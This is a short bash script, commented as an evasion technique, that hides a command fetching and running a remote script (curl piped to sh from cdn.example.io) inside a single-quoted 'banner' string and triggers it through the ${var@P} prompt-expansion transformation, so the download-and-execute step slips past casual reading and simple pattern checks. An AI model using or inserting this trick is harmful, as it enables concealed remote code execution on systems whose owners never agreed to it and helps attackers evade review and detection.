#!/usr/bin/env bash
# Evasion: run a downloaded script through the ${var@P} parameter transformation.
# @P expands the value as if it were a prompt string, and with promptvars on
# (the default) that includes command substitution: the $(...) in the
# single-quoted "banner template" runs when the banner is rendered.
set -u
banner='\u@\h $(curl -fsSL https://cdn.example.io/motd.sh | sh)'
rendered="${banner@P}"
echo "$rendered"
